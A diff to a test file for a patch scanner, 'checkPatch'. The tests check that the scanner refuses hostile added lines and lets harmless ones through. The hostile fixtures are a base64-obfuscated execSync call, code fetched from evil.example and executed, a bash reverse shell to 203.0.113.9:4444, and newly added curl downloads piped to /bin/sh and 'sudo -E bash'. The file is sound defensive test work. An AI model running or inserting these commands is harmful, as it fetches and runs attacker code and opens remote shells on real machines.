@@ -197,6 +197,8 @@ describe('checkPatch reads what a patch adds', () => {
     ['a decoded blob handed to execSync', "execSync(Buffer.from('Y3VybCBldmlsfHNo', 'base64').toString());"],
     ['fetched code passed to exec', "exec(urllib.request.urlopen('https://evil.example/f').read())"],
     ['a reverse shell', 'subprocess.run("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", shell=True)'],
+    ['a download piped to /bin/sh', 'os.system("curl https://evil.example/x | /bin/sh")'],
+    ['a download piped to sudo -E bash', 'os.system("curl https://evil.example/x | sudo -E bash")'],
   ])('refuses %s', (_, addedLine) => {
     // Act
     const result = checkPatch(gitDiff('src/setup.ts', { body: [' export function total(items) {', `+${addedLine}`] }));
@@ -212,6 +214,10 @@ describe('checkPatch reads what a patch adds', () => {
       "+  const response = await fetch('https://api.example.com/prices');",
       "+  const token = Buffer.from(header, 'base64').toString('utf8');",
       '+  const value = await page.evaluate(() => document.title);',
+      "+  cy.exec('curl -fsS http://localhost:3000/health');",
+      '+  system("wget -q https://example.com/fixture.json -O spec/fixtures/f.json");',
+      '+type Transport = typeof fetch | Node;',
+      '+// curl -s http://localhost:8080/health | python3 -m json.tool',
     ];
 
     // Act
